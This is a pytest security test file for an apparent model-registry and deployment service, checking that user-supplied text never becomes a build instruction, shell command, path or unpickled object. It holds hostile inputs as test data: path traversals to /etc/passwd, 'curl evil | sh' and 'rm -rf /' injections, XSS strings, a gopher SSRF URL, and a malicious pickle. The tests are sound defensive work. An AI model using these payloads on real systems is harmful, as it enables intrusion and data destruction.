"""User text never becomes an instruction or a path: image builds, commands, target settings,
model files and downloads.

Existing unit tests cover the single checks (registry/test_validation.py external-data paths,
registry/test_uploads.py upload file names, monitoring/test_webhooks.py webhook SSRF); these
tests push hostile values through the whole path instead.
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import onnx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from deployments.targets.base import DriverError
from deployments.targets.docker import images
from deployments.targets.docker.driver import docker_settings
from deployments.targets.kubernetes.config import ConfigError as KubernetesConfigError
from deployments.targets.kubernetes.config import kubernetes_settings
from registry import tasks as registry_tasks
from registry.models import ModelVersion, RegisteredModel, VersionStatus
from registry.storage import materialize_version
from tests.registry import onnx_files

pytestmark = pytest.mark.django_db

TRAVERSALS = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "．．／．．／etc／passwd",
    "....//....//etc/passwd",
    "model\x00/../../etc/passwd",
]


# --- image builds ------------------------------------------------------------------------------


@pytest.fixture
def wheelhouse(tmp_path):
    for folder, name in (
        ("deps", "numpy-2.0-py3-none-any.whl"),
        ("runtime", "rt-1-py3-none-any.whl"),
    ):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / name).write_bytes(b"PK\x03\x04 not really a wheel")
    return tmp_path


def test_the_build_context_holds_only_the_fixed_files_whatever_users_typed(world, wheelhouse):
    ModelVersion.objects.filter(pk=world.version.pk).update(
        params={"RUN": "curl evil | sh"}, source="https://x/$(id)", git_commit="`id`"
    )
    world.version.refresh_from_db()
    context = images.build_context(version=world.version, wheelhouse=wheelhouse)
    with tarfile.open(fileobj=context.fileobj) as archive:
        names = archive.getnames()
        dockerfile = archive.extractfile("Dockerfile").read()
        manifest = archive.extractfile("model/modeldeck.json").read()
    assert dockerfile == images.DOCKERFILE_TEMPLATE.read_bytes()
    assert sorted(names) == sorted(
        [
            "Dockerfile",
            "wheels/deps",
            "wheels/deps/numpy-2.0-py3-none-any.whl",
            "wheels/runtime",
            "wheels/runtime/rt-1-py3-none-any.whl",
            "model",
            "model/model.onnx",
            "model/modeldeck.json",
        ]
    )
    assert all(not name.startswith("/") and ".." not in name.split("/") for name in names)
    assert b"curl evil" not in manifest  # params are not part of what the image serves


def test_the_serving_dockerfile_takes_no_user_text():
    text = images.DOCKERFILE_TEMPLATE.read_text()
    instructions = [line.split()[0] for line in text.splitlines() if line and line[0].isupper()]
    assert [line for line in text.splitlines() if line.startswith("ARG")] == [
        "ARG BASE_IMAGE=modeldeck/base:bookworm"
    ]
    assert "ADD" not in instructions  # ADD fetches URLs and unpacks archives
    assert "${" not in text.replace("${BASE_IMAGE}", "")


@pytest.mark.parametrize(
    "name",
    [
        "x\nRUN curl evil|sh",
        "x; rm -rf /",
        "x$(id)",
        "--label=evil",
        "x y",
        "../x",
        # Short enough for the name column (63) on every database: the point is a hostile name
        # that reached the database, not one the column would have refused.
        '"><script>alert("name")</script>',
        "<img src=x onerror=alert(1)>",
    ],
)
def test_a_hostile_model_name_in_the_database_stops_the_build(world, name):
    """Names are validated on the way in; if one got past (a bad migration, the admin's raw
    edit), the build refuses it instead of turning it into an image label."""
    RegisteredModel.objects.filter(pk=world.model.pk).update(name=name)
    world.version.refresh_from_db()
    with pytest.raises(images.BuildError, match="model name"):
        images.image_labels(version=world.version, build_id=1, sha256="0" * 64)


@pytest.mark.parametrize(
    "base_image",
    [
        "python:3.11\nRUN curl evil | sh",
        "python:3.11 --network=host",
        "$(id):latest",
        "python:3.11;id",
        "../../python",
    ],
)
def test_hostile_base_images_are_refused_in_the_target_settings(base_image):
    with pytest.raises(DriverError):
        docker_settings({"base_image": base_image})


@pytest.mark.parametrize(
    "docker_host",
    [
        "file:///etc/passwd",
        "tcp://127.0.0.1:2375\nHost: evil",
        "tcp://a b",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "tcp://127.0.0.1:2375?x=$(id)",
        "",
    ],
)
def test_docker_hosts_are_only_engine_urls(docker_host):
    with pytest.raises(DriverError):
        docker_settings({"docker_host": docker_host})


@pytest.mark.parametrize(
    "config",
    [
        {"kubeconfig": "relative/kubeconfig"},
        {"kubeconfig": "../../etc/passwd"},
        {"kubeconfig_env": "A; rm -rf /"},
        {"context": "prod\x1b[2J"},
        {"public_url": "file:///etc/passwd"},
        {"public_url": "javascript:alert(1)"},
        {"public_url": "https://x/\n\rSet-Cookie: a=b"},
    ],
)
def test_kubernetes_settings_refuse_paths_and_urls_that_are_not_what_they_claim(config):
    with pytest.raises((KubernetesConfigError, DriverError, ValueError)):
        kubernetes_settings(config)


def test_local_processes_are_started_without_a_shell():
    """Endpoint names and version references reach the runtime as separate argv entries."""
    source = Path("deployments/targets/local/driver.py").read_text()
    assert "shell=True" not in source
    assert "subprocess.Popen(" in source


def test_no_product_code_runs_a_shell_or_evaluates_text():
    offenders = []
    for folder in (
        "config",
        "common",
        "accounts",
        "registry",
        "deployments",
        "edge",
        "monitoring",
        "runtime",
    ):
        for path in Path(folder).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            text = path.read_text()
            for needle in ("shell=True", "os.system(", "os.popen(", " eval(", " exec("):
                if needle in text:
                    offenders.append(f"{path}: {needle}")
    assert offenders == []


# --- model files -------------------------------------------------------------------------------


def _upload(client, model_name: str, content: bytes, file_name: str = "m.onnx"):
    return client.post(
        f"/api/v1/models/{model_name}/versions/",
        {"file": SimpleUploadedFile(file_name, content)},
        format="multipart",
    )


def _validated(number_response, model) -> ModelVersion:
    number = number_response.json()["number"]
    version = ModelVersion.objects.get(model=model, number=number)
    registry_tasks.validate_version(version.pk)
    version.refresh_from_db()
    return version


@pytest.mark.parametrize("location", [*TRAVERSALS, "weights.bin"])
def test_external_data_outside_the_upload_is_refused_end_to_end(world, api_for, location):
    """An uploaded model whose tensor points at a file on the server ends invalid; the child
    never reads the file (the sandbox folder holds only the model)."""
    client = api_for(world.owner, world.team)
    model = onnx_files.external_data(location.replace("\x00", ""), length=16)
    response = _upload(client, world.model.name, model.SerializeToString())
    assert response.status_code == 201, response.json()
    version = _validated(response, world.model)
    assert version.status == VersionStatus.INVALID
    assert "external file" in version.status_reason


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x08builtins\x94.", "pickle"),
        (b"cos\nsystem\n(S'touch /tmp/pwned-by-modeldeck'\ntR.", "protocol-0 pickle"),
        (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40, "zip (torch, joblib)"),
        (b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False}", "numpy object array"),
        (b"\x89HDF\r\n\x1a\n" + b"\x00" * 32, "HDF5 (keras)"),
        (b"<script>alert(1)</script>", "html"),
        (b"", "empty"),
    ],
)
def test_files_that_are_not_onnx_never_become_ready_and_are_never_unpickled(
    world, api_for, content, what
):
    client = api_for(world.owner, world.team)
    response = _upload(client, world.model.name, content)
    if response.status_code == 400:
        return  # refused at the door
    assert response.status_code == 201, (what, response.json())
    version = _validated(response, world.model)
    assert version.status == VersionStatus.INVALID, what
    assert not Path("/tmp/pwned-by-modeldeck").exists()


def test_a_truncated_onnx_file_is_invalid(world, api_for):
    client = api_for(world.owner, world.team)
    whole = onnx_files.linear_regressor().SerializeToString()
    response = _upload(client, world.model.name, whole[: len(whole) // 2])
    assert response.status_code in (201, 400)
    if response.status_code == 201:
        assert _validated(response, world.model).status == VersionStatus.INVALID


def test_materializing_does_not_follow_a_planted_symlink(world, tmp_path):
    """A symlink where model.onnx goes is replaced, never written through."""
    folder = tmp_path / "serve"
    folder.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (folder / "model.onnx").symlink_to(victim)
    (folder / "reference.json").symlink_to(victim)
    path = materialize_version(world.version, folder)
    assert victim.read_text() == "keep me"
    assert not path.is_symlink()
    assert onnx.load(str(path)).graph.node[0].op_type == "Add"
    assert not (folder / "reference.json").exists() or not (folder / "reference.json").is_symlink()


@pytest.mark.parametrize("kind", [*TRAVERSALS, "model/../../x", "MODEL", "model%00"])
def test_the_download_route_takes_only_known_file_kinds(world, kind):
    client = Client()
    client.force_login(world.owner)
    response = client.get(f"/models/{world.model.name}/versions/2/files/{kind}/")
    assert response.status_code == 404


@pytest.mark.parametrize("name", [*TRAVERSALS, "secret-model/../other", "secret-model%2f..%2f"])
def test_model_names_in_urls_cannot_climb(world, name):
    client = Client()
    client.force_login(world.owner)
    for path in (f"/models/{name}/", f"/api/v1/models/{name}/versions/2/download/"):
        response = client.get(path)
        assert response.status_code in (404, 400), (path, response.status_code)
        body = b"".join(response) if response.streaming else response.content
        assert b"root:" not in body


def test_upload_file_names_on_the_page_are_metadata_only(world, tmp_path):
    client = Client()
    client.force_login(world.owner)
    content = onnx_files.linear_regressor().SerializeToString()
    for name in TRAVERSALS:
        upload = SimpleUploadedFile(name, content)
        response = client.post(f"/models/{world.model.name}/upload/", {"file": upload})
        assert response.status_code in (302, 200, 400), name
    keys = world.model.versions.values_list("artifacts__storage_key", flat=True)
    assert all(key is None or key.startswith(f"models/{world.model.pk}/") for key in keys)
    assert not Path("/etc/passwd.onnx").exists()
    assert Path("/etc/passwd").read_bytes().startswith(b"root:")


def test_tar_members_of_a_build_context_are_relative(world, wheelhouse):
    context = images.build_context(version=world.version, wheelhouse=wheelhouse)
    data = context.fileobj.read()
    with tarfile.open(fileobj=io.BytesIO(data)) as archive:
        for member in archive.getmembers():
            assert not member.issym() and not member.islnk(), member.name
            assert member.uid == 0 and member.mode in (0o644, 0o755)
